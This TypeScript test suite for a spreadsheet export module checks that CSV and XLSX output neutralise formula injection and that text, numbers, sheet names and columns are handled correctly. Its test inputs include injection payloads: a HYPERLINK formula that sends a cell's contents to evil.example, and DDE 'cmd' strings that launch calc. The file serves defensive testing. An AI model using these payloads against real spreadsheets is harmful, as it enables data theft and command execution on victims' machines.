import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvOf } from '../../src/spreadsheets/csv.ts'
import type { Cell, Sheet } from '../../src/spreadsheets/sheet.ts'
import { workbookOf } from '../../src/spreadsheets/workbook.ts'
import { openWorkbook } from '../../src/intake/xlsx/workbook.ts'
import { rowsOf } from '../../src/intake/xlsx/sheet-rows.ts'
import { openZip, textOfPart } from '../../src/intake/xlsx/zip.ts'
import { fileOf } from '../intake/sample.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|'/C calc'!A0",
  '+86 120 0000 0001',
  '-2+3+cmd|" /C calc"!A0',
  '-5',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  'a;=1+1',
  'a\n=1+1',
]

const csvBytes = (rows: Sheet['rows'], encoding: 'utf-8' | 'gb18030'): Buffer => Buffer.concat([...csvOf(rows, encoding)])

/** As another reads it. */
const csvRead = (bytes: Buffer, encoding = 'utf-8') => {
  const text = new TextDecoder(encoding, { fatal: true, ignoreBOM: true }).decode(bytes)
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: true })
}

test('of a text that a spreadsheet program would compute none is left in a CSV', () => {
  for (const [i, formula] of formulas.entries()) {
    const [[before, cell, after] = []] = csvRead(
      csvBytes([['a', formula, 'b']], i % 2 === 0 ? 'utf-8' : 'gb18030'),
      i % 2 === 0 ? 'utf-8' : 'gb18030',
    )
    expect([before, after]).toEqual(['a', 'b'])
    expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u)
    // Nothing is lost: one mark stands before it.
    expect(cell?.replace(/^'/, '')).toBe(formula)
  }
})

test('a number is a number, a negative one too, and ordinary texts are as they were', () => {
  const row: Cell[] = [-5, 0, 2.5, 'CR20261121009001', '05180000001@ftth', '人民路1号', '2026-11-21 10:00:00', '']
  expect(csvBytes([row], 'utf-8').toString()).toBe('\uFEFF-5,0,2.5,CR20261121009001,05180000001@ftth,人民路1号,2026-11-21 10:00:00,\r\n')
})

test('quotation marks, commas and line ends stay in their cells', () => {
  const rows = [['他说"好"', 'a,b', 'c\r\nd', 'e;f', '']]
  expect(csvRead(csvBytes(rows, 'utf-8'))).toEqual(rows)
})

async function workbookRead(sheets: readonly Sheet[]) {
  const path = fileOf(await workbookOf(sheets), 'out.xlsx')
  const workbook = await openWorkbook(path)
  const read: { name: string; rows: unknown[][] }[] = []
  for (const sheet of workbook.sheets) {
    const blocks = await Array.fromAsync(rowsOf(workbook, sheet))
    read.push({ name: sheet.name, rows: blocks.flat().map(({ cells }) => [...cells]) })
  }
  return { path, read }
}

test('a workbook holds texts as texts, whatever they look like, and numbers as numbers', async () => {
  const rows = [['标题'], [...formulas, -5, 0.5, '0123', '20261121000000001', '_x000D_', '<&>"\'']]
  const { path, read } = await workbookRead([{ name: '搁置', rows }])
  expect(read).toEqual([{ name: '搁置', rows }])
  const zip = await openZip(path)
  const part = zip.parts.values().find(({ name }) => name.includes('sheet1'))
  if (part === undefined) throw new Error('no sheet')
  const xml = (await Array.fromAsync(textOfPart(zip, part))).join('')
  expect(xml).not.toMatch(/<f[ >]|t="str"/)
  expect(xml.match(/<c r="[A-Z]+2" s="1" t="inlineStr">/g)).toHaveLength(formulas.length + 4)
  expect(xml.match(/<c r="[A-Z]+2"><v>/g)).toHaveLength(2)
})

test('any text comes back from a workbook', async () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1 }),
    fc.string({ unit: 'grapheme', minLength: 1 }),
    fc.constantFrom('_x0041_', ' a ', '\u0000\u0001\u001F', '\uFFFE'),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.array(cell, { minLength: 1, maxLength: 30 }), { minLength: 1, maxLength: 4 }), async (rows) => {
      const { read } = await workbookRead([{ name: 'a', rows }])
      expect(read[0]?.rows).toEqual(rows.map((row) => row.map((text) => text.toWellFormed())))
    }),
    { numRuns: 40 },
  )
})

test('sheets have names that spreadsheet programs take, each once', async () => {
  const names = ['明细[1]:*?/\\', "'a'", 'A', 'a', '', '很长的名字'.repeat(10), '很长的名字'.repeat(10)]
  const { read } = await workbookRead(names.map((name) => ({ name, rows: [['x']] })))
  const given = read.map(({ name }) => name)
  expect(given).toEqual([
    '明细 1',
    'a',
    'A 2',
    'a 3',
    'Sheet5',
    '很长的名字'.repeat(7).slice(0, 31),
    `${'很长的名字'.repeat(7).slice(0, 27)} 2`,
  ])
})

test('the 27th and the 703rd column are AA and AAA', async () => {
  const wide = Array.from({ length: 703 }, (_, i) => `c${i}`)
  const { read } = await workbookRead([{ name: 'a', rows: [wide] }])
  expect(read[0]?.rows).toEqual([wide])
})

test('a text longer than a cell may be is cut, and says so', async () => {
  const { read } = await workbookRead([{ name: 'a', rows: [['号'.repeat(40_000)]] }])
  expect(read[0]?.rows).toEqual([[`${'号'.repeat(32_766)}…`]])
})
